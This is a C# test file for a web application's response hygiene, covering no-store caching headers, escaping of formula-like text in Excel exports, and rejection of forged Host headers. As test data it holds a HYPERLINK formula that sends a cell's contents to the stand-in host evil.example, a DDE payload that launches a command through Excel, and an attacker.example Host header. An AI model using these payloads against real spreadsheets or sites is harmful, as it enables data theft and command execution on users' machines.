using System.Net;
using SmartFactory.Domain;
using SmartFactory.Web.Data;
using SmartFactory.Web.Reports;
using static SmartFactory.Web.Tests.ReportBuilders;
using static SmartFactory.Web.Tests.Seed;

namespace SmartFactory.Web.Tests;

/// <summary>
/// What leaves the server for a signed-in user stays out of caches; what a user typed never acts as a formula in
/// someone else's Excel; and links point at the configured address, whatever Host header a request carried.
/// </summary>
public sealed class ResponseHygieneTests : IDisposable
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此核对\")";
    private readonly AppFactory _app = new();

    public void Dispose() => _app.Dispose();

    private static void AssertNotStored(HttpResponseMessage response, string what)
    {
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{what} answered {(int)response.StatusCode}");
        Assert.True(response.Headers.CacheControl?.NoStore == true, $"{what} has Cache-Control: {response.Headers.CacheControl}");
        Assert.Contains("no-cache", response.Headers.Pragma.ToString());
    }

    [Fact]
    public async Task PagesPdfsEvidenceExportsAndApiAnswersAreMarkedNoStore()
    {
        var enterprise = _app.Browser();
        await Builders.RegisterAsync(enterprise, 1);
        (await Builders.UploadDtEvidenceAsync(enterprise)).EnsureSuccessStatusCode();
        var file = _app.Query(db => db.EvidenceFiles.Single().Id);
        var submission = Submission(_app, Enterprise(_app, 2, HuqiuCounty), Tier.Advanced);
        var official = await OfficialAsync(_app, Role.CountyOfficial, HuqiuCounty, "虎丘区工信局");
        var api = ApiBuilders.Official(_app, Role.CountyOfficial, HuqiuCounty);

        AssertNotStored(await enterprise.Client.GetAsync("/Assessments"), "the draft page");
        AssertNotStored(await enterprise.Client.GetAsync($"/files/{file}"), "an evidence file");
        AssertNotStored(await official.Client.GetAsync($"/Officials/Submission/{submission}?handler=Pdf"), "a submission's PDF");
        AssertNotStored(await official.Client.GetAsync("/Officials?handler=Export"), "the enterprise list export");
        AssertNotStored(await api.GetAsync("/api/v1/enterprises"), "the API's enterprise list");
    }

    [Theory]
    [InlineData("=1+1", true)]
    [InlineData("+86 512 1234", true)]
    [InlineData("-2+3", true)]
    [InlineData("@SUM(A1:A9)", true)]
    [InlineData("\t=1", true)]
    [InlineData("\r=1", true)]
    [InlineData("-5", false)]
    [InlineData("+0.5", false)]
    [InlineData("苏州=精密", false)]
    [InlineData("", false)]
    public void FormulaLikeTextIsTextThatStartsWithWhatASpreadsheetEvaluates(string text, bool formulaLike) =>
        Assert.Equal(formulaLike, Spreadsheet.IsFormulaLike(text));

    [Fact]
    public async Task AnEnterpriseNamedLikeAFormulaComesOutOfTheExportsBehindAnApostrophe()
    {
        var named = Enterprise(_app, 3, HuqiuCounty, name: Formula);
        Enterprise(_app, 4, HuqiuCounty, name: "@SUM(1+1)*cmd|' /C calc'!A0");
        Submission(_app, named, Tier.Advanced);
        var official = await OfficialAsync(_app, Role.CountyOfficial, HuqiuCounty, "虎丘区工信局");
        var provider = _app.Browser();
        var providerId = await ProviderAsync(_app, provider, "formula@example.com");
        ApiBuilders.Grant(_app, named, providerId);

        var list = Rows(await DownloadAsync(official, "/Officials?handler=Export", XlsxType));
        var template = Rows(await DownloadAsync(provider, "/Providers/Import?handler=Template", XlsxType), "评价");

        Assert.Equal(new[] { "'" + Formula, "'@SUM(1+1)*cmd|' /C calc'!A0" }.Order(), list.Select(r => (string)r["企业名称"]!).Order());
        Assert.Equal("'" + Formula, Assert.Single(template)["企业名称（仅供核对）"]);
    }

    [Fact]
    public async Task AnInvitationLinkStartsWithTheConfiguredAddressWhateverHostTheRequestNames()
    {
        using var app = new AppFactory { Settings = { ["Network:PublicBaseUrl"] = "https://sf.example.gov.cn/", ["AllowedHosts"] = "*" } };
        var admin = app.Browser();
        await Builders.RegisterAsync(admin, 1);
        admin.Client.DefaultRequestHeaders.Host = "attacker.example";

        var invited = await admin.PostAsync("/Team/Users", null, new Dictionary<string, string> { ["DisplayName"] = "王五", ["Login"] = "wangwu@example.com" });

        var link = (await Browser.ParseAsync(invited)).QuerySelector("code.invitation")!.TextContent;
        Assert.Matches("^https://sf\\.example\\.gov\\.cn/Account/Accept\\?token=[0-9a-f]{48}$", link);
    }

    [Fact]
    public async Task InProductionOnlyTheHostOfThePublicAddressIsAnswered()
    {
        using var app = new AppFactory { Environment = "Production", Settings = { ["Network:PublicBaseUrl"] = "https://sf.example.gov.cn" } };
        var client = app.CreateClient();

        var foreign = await client.SendAsync(new HttpRequestMessage(HttpMethod.Get, "/Account/Login") { Headers = { Host = "attacker.example" } });
        var own = await client.SendAsync(new HttpRequestMessage(HttpMethod.Get, "/Account/Login") { Headers = { Host = "sf.example.gov.cn" } });

        Assert.Equal(HttpStatusCode.BadRequest, foreign.StatusCode);
        Assert.Equal(HttpStatusCode.OK, own.StatusCode);
    }

    [Fact]
    public void InProductionTheAppRefusesToStartWithoutAPublicAddress()
    {
        using var app = new AppFactory { Environment = "Production" };

        var refused = Record.Exception(() => app.CreateClient());

        Assert.NotNull(refused);
        Assert.Contains("Network:PublicBaseUrl must be set in Production", refused.ToString());
    }
}
